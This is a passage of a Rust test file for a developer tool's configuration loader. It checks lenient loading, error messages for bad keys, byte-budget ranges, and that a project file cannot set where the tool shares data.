        let s = Segment::from_name(name).unwrap();
        assert!(
            !Config::default().statusline.segments.contains(&s),
            "{name}"
        );
    }
}

#[test]
fn lenient_load_skips_only_the_broken_file() {
    let (t, p, env) = setup();
    let user = t.path().join("xdg/forge/config.toml");
    std::fs::create_dir_all(user.parent().unwrap()).unwrap();
    std::fs::write(&user, "[context]\nwarn = 60\n").unwrap();
    std::fs::write(p.config(), "[context]\nwran = 1\n").unwrap();
    let (l, errors) = load_lenient(&p, &env);
    assert_eq!(errors.len(), 1);
    assert_eq!(errors[0].path(), p.config());
    assert_eq!(l.config.context.warn, 60.0);
    assert_eq!(l.sources["context.warn"], Source::User(user.clone()));
    assert_eq!(
        l.files,
        vec![
            (Source::User(user.clone()), true),
            (Source::Project(p.config()), false)
        ]
    );
    // A level order broken by the project file: that file is left out.
    std::fs::write(p.config(), "[context]\ncritical = 55\n").unwrap();
    let (l, errors) = load_lenient(&p, &env);
    assert_eq!(errors.len(), 1);
    assert_eq!(l.config.context.warn, 60.0);
    assert_eq!(l.config.context.critical, 85.0);
    // Both broken: the defaults alone.
    std::fs::write(&user, "nonsense").unwrap();
    let (l, errors) = load_lenient(&p, &env);
    assert_eq!(errors.len(), 2);
    assert_eq!(l.config, Config::default());
}

#[test]
fn unknown_key_and_wrong_type_name_key_and_file() {
    let (_t, p, env) = setup();
    std::fs::write(p.config(), "[context]\nwarm = 60\n").unwrap();
    let e = load(&p, &env).unwrap_err().to_string();
    assert!(
        e.contains("config.toml") && e.contains("context.warm"),
        "{e}"
    );
    std::fs::write(p.config(), "[context]\nwarn = \"high\"\n").unwrap();
    let e = load(&p, &env).unwrap_err().to_string();
    assert!(e.contains("config.toml") && e.contains("warn"), "{e}");
    std::fs::write(p.config(), "[colour]\nx = 1\n").unwrap();
    let e = load(&p, &env).unwrap_err().to_string();
    assert!(e.contains("unknown key `colour`"), "{e}");
    std::fs::write(p.config(), "[context]\nwarn = 90\n").unwrap();
    let e = load(&p, &env).unwrap_err().to_string();
    assert!(e.contains("must rise") && e.contains("config.toml"), "{e}");
    assert_eq!(load_or_default(&p, &env), Config::default());
}

/// `[handoffs] max_bytes` and `[resume] max_bytes`: read, kept in their range, and
/// what a project's file may set (they change what forge shows).
#[test]
fn the_handoff_and_resume_budgets_are_read_ranged_and_shown_only() {
    let (_t, paths, env) = setup();
    assert_eq!(load(&paths, &env).unwrap().config.handoffs.max_bytes, 8192);
    assert_eq!(load(&paths, &env).unwrap().config.resume.max_bytes, 10_240);
    std::fs::write(
        paths.config(),
        "[handoffs]\nmax_bytes = 4096\n\n[resume]\nmax_bytes = 6000\n",
    )
    .unwrap();
    let c = load(&paths, &env).unwrap().config;
    assert_eq!((c.handoffs.max_bytes, c.resume.max_bytes), (4096, 6000));
    let msg = |edit: &dyn Fn(&mut Config)| {
        let mut c = Config::default();
        edit(&mut c);
        validate(&c).unwrap_err().1
    };
    assert_eq!(
        msg(&|c| c.handoffs.max_bytes = 100),
        "`handoffs.max_bytes` must be 2048 to 65536, found 100"
    );
    assert_eq!(
        msg(&|c| c.resume.max_bytes = 20_000),
        "`resume.max_bytes` must be 1024 to 10240, found 20000"
    );
    assert!(
        error_for("[handoffs]\nmax_bytes = \"8 KiB\"\n").contains("handoffs.max_bytes"),
        "a wrong type names the key"
    );
    for k in ["handoffs.max_bytes", "resume.max_bytes"] {
        assert_eq!(side_of(k), Some(Side::Shows), "{k}");
    }
}

#[test]
fn share_is_taken_from_your_own_config_only_never_from_a_project_file() {
    let (t, p, env) = setup();
    assert_eq!(side_of("share.remote"), Some(Side::YoursOnly));
    assert_eq!(side_of("share.retention_days"), Some(Side::YoursOnly));
    // A project file's [share] (and an agent table's) is left out, not an error,
    // whether the file is trusted or not; the rest of it still applies.
    std::fs::write(
        p.config(),
        "[context]\nwarn = 61\n[share]\nremote = \"evil\"\nretention_days = 1\n\
         [agents.b.share]\nremote = \"evil\"\n",
    )
    .unwrap();
    let l = load(&p, &env).unwrap();
    assert_eq!(l.config.share, ShareConfig::default());
    assert_eq!(l.config.share.remote(), None);
    assert_eq!(l.config.context.warn, 61.0);
    trust_file(&p, &env);
    let l = load_as(&p, &env, "b").unwrap();
    assert_eq!(l.config.share.remote(), None, "trusted: still not");
    // Your own file turns it on.
    let user = t.path().join("xdg/forge/config.toml");
    std::fs::create_dir_all(user.parent().unwrap()).unwrap();
    std::fs::write(&user, "[share]\nremote = \"origin\"\nretention_days = 30\n").unwrap();
    let l = load(&p, &env).unwrap();
    assert_eq!(l.config.share.remote(), Some("origin"));
    assert_eq!(l.config.share.retention_days, 30);
    // A bad value is refused with what the key takes.
    std::fs::write(&user, "[share]\nremote = 3\n").unwrap();
    assert!(load(&p, &env).is_err());
}
